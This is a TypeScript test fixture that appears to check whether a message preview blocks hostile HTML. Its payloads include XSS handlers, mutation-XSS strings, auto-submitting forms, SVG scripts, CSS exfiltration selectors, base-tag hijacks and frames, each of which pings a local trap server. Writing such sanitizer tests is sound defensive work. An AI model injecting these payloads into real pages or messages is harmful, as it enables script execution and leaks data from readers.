/**
 * HTML of hostile messages. Each entry tries to run a script, to load something or to navigate, and sends a request
 * to the server `trap` if it succeeds.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { onTestFinished } from 'vitest';

/** Starts a server that records the paths of all requests that a hostile message causes. */
export async function startTrap(): Promise<{ readonly url: string; readonly hits: readonly string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    // Requests for the icon are not recorded, because browsers request it for each tab that a link opens.
    if (request.url !== '/favicon.ico') hits.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/**
 * Matches the console messages about attacks that a policy stopped: these are expected here, and are errors in other
 * tests. Firefox reports a URL that the preview replaced by an empty one as a font that failed to load.
 */
export const BLOCKED =
  /Content Security Policy|Content-Security-Policy|sandboxed|Blocked|ERR_BLOCKED|Refused|net::ERR_FAILED|allow-scripts|Unsafe attempt to load|Security Error|content blocked|font load failed .*source: data:,/;

export const attacks: Readonly<Record<string, (trap: string) => string>> = {
  scripts: (trap) =>
    `<script>parent.document.title='owned';fetch('${trap}/script')</script><script src="${trap}/script.js"></script>` +
    `<img src=x onerror="alert(1);fetch('${trap}/onerror')"><body onload="alert(2)"><a href="javascript:alert(3)">x</a>` +
    `<details open ontoggle="alert(4)"><summary>s</summary></details>`,
  'a script that comes out of an unclosed element': (trap) =>
    `<style><!--</style><script>alert(1)</script>--><img src="${trap}/mutation"><noscript><p title="</noscript><img src=x onerror=alert(2)>">` +
    `<svg><style><img src=x onerror=alert(3)></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(4)>`,
  forms: (trap) =>
    `<form id=f action="${trap}/form" method=post><input name=q value=1 autofocus onfocus="f.submit()"><button>go</button></form>` +
    `<button form=f formaction="${trap}/formaction">x</button><input type=image src="${trap}/input">`,
  SVG: (trap) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="${trap}/svg"/>` +
    `<use href="${trap}/use.svg#a"/><animate onbegin="alert(3)" attributeName=x dur=1s /><foreignObject><iframe src="${trap}/foreign"></iframe></foreignObject></svg>`,
  'meta refresh': (trap) =>
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">` +
    `<meta http-equiv=set-cookie content="a=b">`,
  'CSS that carries off': (trap) =>
    `<style>@import url("${trap}/import.css");body{background:url(${trap}/body)}@font-face{font-family:x;src:url(${trap}/font)}` +
    `a[href^="h"]{background:url(${trap}/attribute)}p:before{content:url(${trap}/content);font-family:x}</style>` +
    `<link rel=stylesheet href="${trap}/link.css"><link rel=prefetch href="${trap}/prefetch"><link rel=preconnect href="${trap}">` +
    `<link rel=dns-prefetch href="${trap}"><p style="background:url('${trap}/inline')">p</p><a href="https://x.test">x</a>`,
  'a base element': (trap) =>
    `<base href="${trap}/" target="_top"><img src="relative.png"><a id=a href="go">go</a>`,
  'frames and plug-ins': (trap) =>
    `<iframe src="${trap}/iframe"></iframe><iframe srcdoc="<script>top.location='${trap}/srcdoc'</script>"></iframe>` +
    `<object data="${trap}/object"></object><embed src="${trap}/embed"><applet code=x archive="${trap}/applet"></applet><portal src="${trap}/portal"></portal>`,
  'media and pictures': (trap) =>
    `<img src="${trap}/img" srcset="${trap}/srcset 2x"><picture><source srcset="${trap}/source"><img src="${trap}/picture"></picture>` +
    `<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio>` +
    `<table background="${trap}/background"><tr><td>x</td></tr></table><track src="${trap}/track">`,
};
